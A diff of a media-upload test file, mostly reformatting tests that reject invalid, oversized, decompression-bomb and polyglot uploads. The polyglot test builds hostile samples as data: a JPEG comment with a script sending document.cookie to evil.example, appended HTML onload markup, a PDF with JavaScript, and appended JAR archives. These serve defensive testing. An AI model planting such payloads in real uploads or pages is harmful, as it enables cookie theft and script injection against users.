-        expect(await upload('page_image', mp4, { filename: 'cover.jpg', type: 'image/jpeg' })).toEqual(refusal('image', MEDIA_MESSAGE.imageInvalid));
-        expect(await upload('form_group_video', await jpeg(), { filename: 'demo.webm', type: 'video/webm' })).toEqual(refusal('video', MEDIA_MESSAGE.videoInvalid));
+        expect(await uploadPhoto(ctx.app, member.token, page, 'front.jpg', 'image/jpeg')).toEqual(
+          refusal('image', WARRIOR_MESSAGE.imageInvalid),
+        );
+        expect(await uploadPhoto(ctx.app, member.token, svg, 'front.png', 'image/png')).toEqual(
+          refusal('image', WARRIOR_MESSAGE.imageInvalid),
+        );
+        expect(await upload('meal_image', svg, { filename: 'meal.png', type: 'image/png' })).toEqual(
+          refusal('image', MEDIA_MESSAGE.imageInvalid),
+        );
+        expect(await upload('page_image', mp4, { filename: 'cover.jpg', type: 'image/jpeg' })).toEqual(
+          refusal('image', MEDIA_MESSAGE.imageInvalid),
+        );
+        expect(await upload('form_group_video', await jpeg(), { filename: 'demo.webm', type: 'video/webm' })).toEqual(
+          refusal('video', MEDIA_MESSAGE.videoInvalid),
+        );
       });
     });
 
     it('an oversized file: a picture whose declared length is over 10 MB (before it is read), a progress photo over 10 MB', async () => {
       await leaveNothing(async () => {
-        const body = await multipart({}, [{ name: 'image', filename: 'huge.jpg', type: 'image/jpeg', data: await jpeg() }]);
+        const body = await multipart({}, [
+          { name: 'image', filename: 'huge.jpg', type: 'image/jpeg', data: await jpeg() },
+        ]);
         const declared = await ctx.app.inject({
-          method: 'POST', url: '/api/admin/meal/image', payload: body.payload,
-          headers: { ...body.headers, authorization: `Bearer ${admin.token}`, 'content-length': String(MEDIA_MAX_BYTES.image + 1024 * 1024) },
+          method: 'POST',
+          url: '/api/admin/meal/image',
+          payload: body.payload,
+          headers: {
+            ...body.headers,
+            authorization: `Bearer ${admin.token}`,
+            'content-length': String(MEDIA_MAX_BYTES.image + 1024 * 1024),
+          },
         });
         expect(declared.statusCode).toBe(422);
         expect(JSON.parse(declared.body).errors).toEqual({ image: [MEDIA_MESSAGE.imageTooLarge] });
@@ -446,8 +639,12 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
       expect(bomb.length).toBeLessThan(2048);
       await leaveNothing(async () => {
         const started = performance.now();
-        expect(await upload('meal_image', bomb, { filename: 'meal.png', type: 'image/png' })).toEqual(refusal('image', IMAGE_TOO_MANY_PIXELS));
-        expect(await uploadPhoto(ctx.app, member.token, bomb, 'front.png', 'image/png')).toEqual(refusal('image', IMAGE_TOO_MANY_PIXELS));
+        expect(await upload('meal_image', bomb, { filename: 'meal.png', type: 'image/png' })).toEqual(
+          refusal('image', IMAGE_TOO_MANY_PIXELS),
+        );
+        expect(await uploadPhoto(ctx.app, member.token, bomb, 'front.png', 'image/png')).toEqual(
+          refusal('image', IMAGE_TOO_MANY_PIXELS),
+        );
         // Decoding 2.5 G pixels would take seconds and gigabytes; reading a header takes milliseconds.
         expect(performance.now() - started).toBeLessThan(2000);
       });
@@ -455,22 +652,51 @@ describe.each(['local', 's3'] as const)('on %s storage', (driver) => {
 
     it('a polyglot: a picture that is also a ZIP (a JAR, GIFAR-style), a web page or a PDF; a video that is also a ZIP', async () => {
       const jar = zipOf('Exploit.class', 'cafebabe: a Java class would be here');
-      const gif = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#8e44ad' } }).gif().toBuffer();
-      const holds = (field: 'image' | 'video', what: string) => refusal(field, `The ${field} may only contain the ${field}: this file also holds ${what}.`);
+      const gif = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#8e44ad' } })
+        .gif()
+        .toBuffer();
+      const holds = (field: 'image' | 'video', what: string) =>
+        refusal(field, `The ${field} may only contain the ${field}: this file also holds ${what}.`);
       await leaveNothing(async () => {
         expect(await upload('meal_image', Buffer.concat([await jpeg(), jar]))).toEqual(holds('image', 'a ZIP archive'));
-        expect(await uploadPhoto(ctx.app, member.token, Buffer.concat([gif, jar]), 'front.gif', 'image/gif')).toEqual(holds('image', 'a ZIP archive'));
+        expect(await uploadPhoto(ctx.app, member.token, Buffer.concat([gif, jar]), 'front.gif', 'image/gif')).toEqual(
+          holds('image', 'a ZIP archive'),
+        );
         // Followed by more bytes the archive is no longer found from the file's end, but is still there after the picture.
-        expect(await upload('page_image', Buffer.concat([await png(), jar, Buffer.from('tail')]))).toEqual(holds('image', 'a ZIP archive'));
-        expect(await upload('meal_image', await jpegWithComment('<script>new Image().src="//evil.example/"+document.cookie</script>'))).toEqual(holds('image', 'web page markup'));
-        expect(await uploadPhoto(ctx.app, member.token, Buffer.concat([await jpeg(), Buffer.from('<HTML><BODY onload="alert(1)">')]))).toEqual(holds('image', 'web page markup'));
-        expect(await upload('page_image', Buffer.concat([await jpeg(), Buffer.from('%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >> endobj\n%%EOF\n')]))).toEqual(holds('image', 'a PDF document'));
-        expect(await upload('meal_video', Buffer.concat([mp4, jar]), { filename: 'clip.mp4', type: 'video/mp4' })).toEqual(holds('video', 'a ZIP archive'));
+        expect(await upload('page_image', Buffer.concat([await png(), jar, Buffer.from('tail')]))).toEqual(
+          holds('image', 'a ZIP archive'),
+        );
+        expect(
+          await upload(
+            'meal_image',
+            await jpegWithComment('<script>new Image().src="//evil.example/"+document.cookie</script>'),
+          ),
+        ).toEqual(holds('image', 'web page markup'));
+        expect(
+          await uploadPhoto(
+            ctx.app,
+            member.token,
+            Buffer.concat([await jpeg(), Buffer.from('<HTML><BODY onload="alert(1)">')]),
+          ),
+        ).toEqual(holds('image', 'web page markup'));
+        expect(
+          await upload(
+            'page_image',
+            Buffer.concat([await jpeg(), Buffer.from('%PDF-1.7\n1 0 obj << /JS (app.alert(1)) >> endobj\n%%EOF\n')]),
+          ),
+        ).toEqual(holds('image', 'a PDF document'));
+        expect(
+          await upload('meal_video', Buffer.concat([mp4, jar]), { filename: 'clip.mp4', type: 'video/mp4' }),
+        ).toEqual(holds('video', 'a ZIP archive'));
       });
     });
 
     it('keeps what cameras append after a picture (a second picture, a maker trailer), stored without it', async () => {
-      const withTrailer = Buffer.concat([await jpeg(), await png(), Buffer.from('SEFH\x00\x00\x00\x00Image_UTC_Data1700000000000SEFT', 'latin1')]);
+      const withTrailer = Buffer.concat([
+        await jpeg(),
+        await png(),
+        Buffer.from('SEFH\x00\x00\x00\x00Image_UTC_Data1700000000000SEFT', 'latin1'),
+      ]);
       const res = await upload('meal_image', withTrailer);
       expect(res.status).toBe(201);
       const row = await ctx.app.orm.em.fork().findOneOrFail(Media, res.body.image.id);
